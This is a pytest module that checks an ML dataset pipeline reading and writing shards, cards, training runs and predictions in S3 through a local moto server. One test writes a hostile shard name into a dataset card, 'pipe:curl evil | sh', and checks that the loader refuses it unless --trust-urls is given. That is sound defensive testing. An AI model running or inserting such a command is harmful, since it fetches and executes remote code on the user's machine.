"""Object storage without a shell (issue 28 item 3) against a real S3 API on this machine (moto's
server, started here and stopped after): make_shards --out s3://... (resumed after a kill, the
same bytes as a local conversion), foreign shards adopted from a bucket, a card that lives in a
bucket, and training with 2 workers, a mid-epoch resume, rank_labels and predict, all reading
and writing s3:// through fsspec: no shell, no `pipe:`."""
import io
import json
import tarfile
from pathlib import Path

import pytest
from safetensors.torch import load_file

from tests.shardcheck import make_clothing1m, run
from tests.shardkit import make_digit_idx, train_argv
from tools import make_shards

s3fs = pytest.importorskip("s3fs", reason="s3fs is not installed (pip install -e '.[s3]')")
moto_server = pytest.importorskip("moto.server", reason="moto[server] is not installed (pip install -e '.[dev]')")


class Killed(BaseException):
    """Stands for a SIGKILL inside the process: nothing catches it."""


@pytest.fixture(scope="module")
def s3(tmp_path_factory):
    """moto's S3 server on localhost for this module, the standard AWS variables pointing at
    it, and the cache of cards fetched from buckets in a temporary folder: -> an S3FileSystem."""
    srv = moto_server.ThreadedMotoServer(ip_address="127.0.0.1", port=0, verbose=False)
    srv.start()
    host, port = srv.get_host_and_port()
    with pytest.MonkeyPatch.context() as mp:
        for k, v in {"AWS_ENDPOINT_URL": f"http://{host}:{port}", "AWS_ACCESS_KEY_ID": "testing",
                     "AWS_SECRET_ACCESS_KEY": "testing", "AWS_DEFAULT_REGION": "us-east-1",
                     "LIMIT_CACHE": str(tmp_path_factory.mktemp("cache"))}.items():
            mp.setenv(k, v)
        fs = s3fs.S3FileSystem(skip_instance_cache=True)
        fs.mkdir("shards")
        yield fs
    srv.stop()


@pytest.fixture(scope="module")
def bucket(s3, tmp_path_factory):
    """digits converted straight into s3://shards/digits/ by make_shards (shards, .idx, card and
    manifest in the bucket, nothing kept locally): -> the source's idx folder."""
    src = make_digit_idx(tmp_path_factory.mktemp("s3") / "idx", n_train=500, n_test=100)
    assert make_shards.main(["mnist", str(src), "--out", "s3://shards/digits/", "--name", "digits",
                             "--shard-size", "100", "--workers", "2"]) == 0
    return src


def objects(fs, prefix: str) -> dict[str, bytes]:
    """Every object under a bucket prefix, byte for byte, by its name below the prefix."""
    fs.invalidate_cache()
    return {p[len(prefix) + 1:]: fs.cat_file(p) for p in sorted(fs.find(prefix))}


def files(folder) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.is_file()}


def s3_argv(out, *extra):
    argv = train_argv("s3://shards/digits/digits-{000..003}.tar", out, "--workers", "2", "--save-every", "3",
                      "--val-data", "s3://shards/digits/digits-val-000.tar",
                      "--test-data", "s3://shards/digits/digits-test-000.tar", *extra)
    return argv


def test_train_resume_and_rank_from_a_bucket(bucket, tmp_path, monkeypatch):
    from train import loop
    from train.limit import cli as train_cli
    monkeypatch.chdir(tmp_path)                # no card here: the bucket's is fetched
    assert train_cli(s3_argv(tmp_path / "whole")) == 0
    row = json.loads((tmp_path / "whole" / "metrics.jsonl").read_text().splitlines()[-1])
    assert row["samples_seen"] == 400 and row["samples_skipped"] == 0 and row["test_acc"] is not None

    real = loop.train_step                      # stop the run at step 5: the last save was at step 3

    def stop_at_5(run, batch, meter):
        if run.step == 5:
            raise KeyboardInterrupt
        return real(run, batch, meter)
    monkeypatch.setattr(loop, "train_step", stop_at_5)
    assert train_cli(s3_argv(tmp_path / "cut")) == 130
    assert json.loads((tmp_path / "cut" / "checkpoints" / "last" / "meta.json").read_text())["in_epoch"]
    monkeypatch.setattr(loop, "train_step", real)
    assert train_cli(s3_argv(tmp_path / "cut", "--resume", "auto")) == 0
    a = load_file(tmp_path / "whole" / "checkpoints" / "last" / "model.safetensors")
    b = load_file(tmp_path / "cut" / "checkpoints" / "last" / "model.safetensors")
    assert all((a[k] == b[k]).all() for k in a)                         # bit-exact through the bucket
    rank_and_predict(tmp_path / "whole", row, "s3://shards/digits/digits-test-000.tar")


def rank_and_predict(run, row: dict, *data: str) -> None:
    """rank_labels and predict from a run whose config.json names s3:// shards: refused unless
    --trust-urls (they reach the network), then scores for the 400 train samples and, on `data`
    (the test shards), the test accuracy the run logged."""
    from tools.predict import cli as predict_cli
    from tools.rank_labels import cli as rank_cli
    labels, pred = run.parent / f"{run.name}-labels", run.parent / f"{run.name}-pred"
    assert rank_cli(["--run", str(run), "--out", str(labels), "--workers", "2"]) == 2
    assert rank_cli(["--run", str(run), "--out", str(labels), "--workers", "2", "--trust-urls", "--fiftyone", "6"]) == 0
    assert json.loads((labels / "summary.json").read_text())["n"] == 400
    images_come_from_the_bucket(run, labels)
    assert predict_cli([str(run), "--data", *data, "--workers", "2", "--out", str(pred), "--trust-urls"]) == 0
    report = json.loads((pred / "report.json").read_text())
    assert report["n"] == 100 and report["accuracy"] == row["test_acc"]


def bucket_image(shard: str, key: str) -> bytes:
    """A sample's image bytes read straight from its shard in s3://shards/digits/ (s3fs and
    tarfile: nothing of the project's readers)."""
    data = s3fs.S3FileSystem(skip_instance_cache=True).cat_file(f"shards/digits/{shard}")
    with tarfile.open(fileobj=io.BytesIO(data)) as tar:
        return tar.extractfile(f"{key}.png").read()


def images_come_from_the_bucket(run, labels) -> None:
    """The card is cached locally and the shards stay in the bucket: the suspects grid, the
    FiftyOne export and the review page's thumbnails still show the samples' own pixels."""
    import numpy as np
    import pyarrow.parquet as pq
    from PIL import Image

    from tools.review.suspects import draw_suspects
    from tools.review_labels import cli as review_cli
    exported = json.loads((labels / "fiftyone" / "labels.json").read_text())["labels"]
    rows = {r["key"]: r for r in pq.read_table(labels / "label_scores.parquet").to_pylist()}
    assert len(exported) == 6
    for key in exported:                   # the bytes as stored, copied out of the bucket's shard
        assert (labels / "fiftyone" / "data" / f"{key}.png").read_bytes() == bucket_image(rows[key]["shard"], key)

    # suspects.png: MNIST tiles are mostly black; a grid whose images were not found holds
    # only its captions on white (drawn here from the same tiles, the shards nowhere)
    def dark(path) -> float:
        return float((np.asarray(Image.open(path).convert("L")) < 64).mean())
    tiles = [({"shard": r["shard"], "key": r["key"]}, r["label"], r["label"]) for r in list(rows.values())[:30]]
    draw_suspects(labels / "blank.png", tiles, [str(c) for c in range(10)], labels / "nowhere", 8)
    assert dark(labels / "suspects.png") > dark(labels / "blank.png") + 0.3

    page = labels.parent / f"{run.name}-page"
    assert review_cli(["--labels", str(labels), "--run", str(run), "--out", str(page), "--top", "12",
                       "--trust-urls"]) == 0
    thumbs = sorted((page / "thumbs").iterdir())
    assert len(thumbs) == 12
    by_index = {r["index"]: r for r in rows.values()}
    for thumb in thumbs:                   # 28 px digits under the 96 px size: the pixels themselves
        r = by_index[int(thumb.stem)]
        want = np.asarray(Image.open(io.BytesIO(bucket_image(r["shard"], r["key"]))).convert("L"))
        assert np.array_equal(np.asarray(Image.open(thumb)), want) and want.any()


def test_train_and_rank_from_the_card_in_a_bucket(bucket, tmp_path, monkeypatch):
    """--data names the bucket folder: its card gives the train, val and test shards, which
    are read in the bucket; the URL in the run's config.json needs --trust-urls downstream."""
    from train.limit import cli as train_cli
    monkeypatch.chdir(tmp_path)
    assert train_cli(train_argv("s3://shards/digits/", tmp_path / "run", "--workers", "2")) == 0
    row = json.loads((tmp_path / "run" / "metrics.jsonl").read_text().splitlines()[-1])
    assert row["samples_seen"] == 400 and row["samples_skipped"] == 0 and row["test_acc"] is not None
    assert json.loads((tmp_path / "run" / "config.json").read_text())["data"] == ["s3://shards/digits/"]
    rank_and_predict(tmp_path / "run", row, "s3://shards/digits/", "--split", "test")   # a split of the bucket's card
    assert json.loads((tmp_path / "run-pred" / "summary.json").read_text())["split"] == "test"


def test_where_a_bucket_shards_card_is_found(bucket, s3, tmp_path, monkeypatch):
    """The card beside the shards in the bucket (fetched into the cache, the shards resolved in
    the bucket, not in the cache), else a copy in the current folder; a card in a bucket that
    lists a pipe: or absolute shard is refused unless --trust-urls; a missing shard is named."""
    from pipeline import bucket_cards
    from pipeline.loader import resolve
    from pipeline.shards import DataError
    ds = resolve(["s3://shards/digits/digits.json"])
    assert ds.card_path == bucket_cards.mirror("s3://shards/digits") / "digits.json"
    assert ds.card_path.with_suffix(".parquet").is_file()
    assert ds.urls["val"] == ["s3://shards/digits/digits-val-000.tar"] and len(ds.urls["train"]) == 4

    for f in ("digits-000.tar", "digits-001.tar", "digits-val-000.tar", "digits-test-000.tar"):
        s3.copy(f"shards/digits/{f}", f"shards/bare/{f}")               # shards without a card
    monkeypatch.chdir(tmp_path)
    bare = ["s3://shards/bare/digits-{000..001}.tar", "s3://shards/bare/digits-val-000.tar",
            "s3://shards/bare/digits-test-000.tar"]
    with pytest.raises(DataError, match="dataset card not found"):
        resolve(*bare)
    (tmp_path / "digits.json").write_bytes(s3.cat_file("shards/digits/digits.json"))
    assert resolve(*bare).card_path == Path("digits.json")
    with pytest.raises(DataError, match="shard not found: s3://shards/bare/digits-002.tar"):
        resolve("s3://shards/bare/digits-{000..002}.tar", *bare[1:])

    card = json.loads(s3.cat_file("shards/digits/digits.json"))        # a stranger's card in a bucket
    card["splits"]["train"]["shards"][0]["file"] = "pipe:curl evil | sh #digits-000.tar"
    s3.pipe_file("shards/evil/digits.json", json.dumps(card).encode())
    with pytest.raises(DataError, match=r"refusing the URL .* read from a file.*--trust-urls"):
        resolve(["s3://shards/evil/"])
    s3.rm("shards/evil/digits.json")                                   # gone from the bucket: gone from the cache
    with pytest.raises(DataError, match="expected one dataset card in s3://shards/evil/, found 0"):
        resolve(["s3://shards/evil/"])


# ---------------------------------------------------------------- make_shards --out s3://...
@pytest.fixture(scope="module")
def clothing(tmp_path_factory):
    src = tmp_path_factory.mktemp("c1m") / "clothing1m"
    make_clothing1m(src, annotations=False)
    (src / "images/0/00/12345678.jpg").write_bytes(b"")   # train[5]: with --shard-size 1 an empty shard,
    return src                                             # renumbered away (in the bucket: copied)


def c1m_argv(src, out, *extra):
    return [str(a) for a in ["clothing1m", src, "--out", out, "--name", "c1m", "--shard-size", "1", *extra]]


@pytest.mark.parametrize("where", ["upload", "copy"])
def test_convert_to_a_bucket_resumes_to_a_local_conversions_bytes(s3, clothing, tmp_path, capsys, monkeypatch, where):
    """Killed in the 5th shard's upload (4 complete) or at the first rename of the empty shard's
    followers, then the same command: the objects are the files of a local conversion, byte for
    byte (tars, .idx, manifest, card), the complete shards are not uploaded again, and nothing
    is left of the progress records or the local staging folder."""
    import tempfile

    from pipeline import remote
    rc, _, err = run(c1m_argv(clothing, tmp_path / "local"), capsys)
    assert rc == 0, err
    want = files(tmp_path / "local")
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "staging"))
    (tmp_path / "staging").mkdir()
    real, calls = getattr(remote, where), []

    def dies(*a):
        calls.append(a)
        if len(calls) > {"upload": 9, "copy": 0}[where]:   # upload: tar + idx of shards 0-3, shard 4's tar
            raise Killed()
        return real(*a)
    monkeypatch.setattr(remote, where, dies)
    url = f"s3://shards/c1m-{where}"
    with pytest.raises(Killed):
        make_shards.main(c1m_argv(clothing, url + "/", "--workers", "2"))
    monkeypatch.setattr(remote, where, real)
    left = objects(s3, url[5:])
    assert "c1m.partial/plan.json" in left and "c1m.json" not in left
    assert not list((tmp_path / "staging").iterdir())

    uploaded, real_upload = [], remote.upload
    monkeypatch.setattr(remote, "upload", lambda local, dest: (uploaded.append(dest.rsplit("/", 1)[1]), real_upload(local, dest)))
    rc, out, err = run(c1m_argv(clothing, url), capsys)
    assert rc == 0, err
    assert objects(s3, url[5:]) == want
    assert not list((tmp_path / "staging").iterdir())
    assert f"wrote {url}/c1m.json" in out
    if where == "upload":
        assert "resuming: 4 of 16 shard(s) already complete" in err
        assert not {"c1m-000.tar", "c1m-003.idx"} & set(uploaded) and {"c1m-004.tar", "c1m.json"} <= set(uploaded)
    else:                      # the records of the shards being renamed went first: those are redone
        assert "resuming: 11 of 16 shard(s) already complete" in err


def test_a_conversion_into_a_bucket_removes_an_older_ones_shards(s3, clothing, tmp_path, capsys):
    url = "s3://shards/c1m-again"
    for size in ("1", "4"):
        rc, _, err = run(c1m_argv(clothing, url, "--shard-size", size), capsys)
        assert rc == 0, err
    names = set(objects(s3, url[5:]))
    assert "removed 10 shard(s) of an older conversion" in err
    assert names == {"c1m.json", "c1m.parquet", "c1m-000.tar", "c1m-000.idx", "c1m-001.tar", "c1m-001.idx",
                     "c1m-002.tar", "c1m-002.idx", "c1m-val-000.tar", "c1m-val-000.idx",
                     "c1m-test-000.tar", "c1m-test-000.idx"}


# ---------------------------------------------------------------- adopting foreign shards in a bucket
def foreign_shards(folder, s3) -> None:
    """Two shards as webdataset.TarWriter writes them (KEY.jpg, KEY.cls), locally and in
    s3://shards/foreign/."""
    import numpy as np
    import webdataset as wds
    from PIL import Image
    folder.mkdir()
    for s in range(2):
        with wds.TarWriter(str(folder / f"foreign-{s:03d}.tar")) as w:
            for i in range(6):
                buf = io.BytesIO()
                Image.fromarray(np.random.default_rng(s * 10 + i).integers(0, 256, (16, 20, 3), dtype=np.uint8)).save(buf, "JPEG")
                w.write({"__key__": f"{s:03d}{i:04d}", "jpg": buf.getvalue(), "cls": (s + i) % 3})
        s3.put_file(str(folder / f"foreign-{s:03d}.tar"), f"shards/foreign/foreign-{s:03d}.tar")


def members(data: bytes) -> dict[str, bytes]:
    """A tar's members; a sample's json without its `source` (a path here, a URL there)."""
    out = {}
    with tarfile.open(fileobj=io.BytesIO(data)) as tar:
        for m in tar.getmembers():
            body = tar.extractfile(m).read()
            out[m.name] = json.dumps({k: v for k, v in json.loads(body).items() if k != "source"}).encode() \
                if m.name.endswith(".json") else body
    return out


def test_foreign_shards_in_a_bucket_are_adopted_through_fsspec(s3, tmp_path, capsys):
    import pyarrow.parquet as pq
    foreign_shards(tmp_path / "foreign", s3)
    rc, _, err = run(["wds", tmp_path / "foreign", "--out", tmp_path / "local", "--name", "adopted", "--shard-size", "5"], capsys)
    assert rc == 0, err
    want = files(tmp_path / "local")
    for source, out, workers in (("s3://shards/foreign/foreign-{000..001}.tar", "s3://shards/adopted", "1"),
                                 ("s3://shards/foreign/", "s3://shards/adopted-folder", "2")):
        rc, _, err = run(["wds", source, "--out", out, "--name", "adopted", "--shard-size", "5", "--workers", workers], capsys)
        assert rc == 0, err
        got = objects(s3, out[5:])
        assert sorted(got) == sorted(want)
        for name in want:                    # the same image bytes, keys, labels and indices
            if name.endswith(".tar"):
                assert members(got[name]) == members(want[name]), name
        card, local_card = json.loads(got["adopted.json"]), json.loads(want["adopted.json"])
        assert card["splits"] == local_card["splits"] and card["options"]["source"] == source
        sources = pq.read_table(io.BytesIO(got["adopted.parquet"])).column("source").to_pylist()
        assert sources[0] == "s3://shards/foreign/foreign-000.tar::0" and len(sources) == 12
    rc, _, err = run(["wds", "s3://shards/foreign/foreign-{000..002}.tar", "--out", tmp_path / "x"], capsys)
    assert rc == 2 and "s3://shards/foreign/foreign-002.tar not found" in err
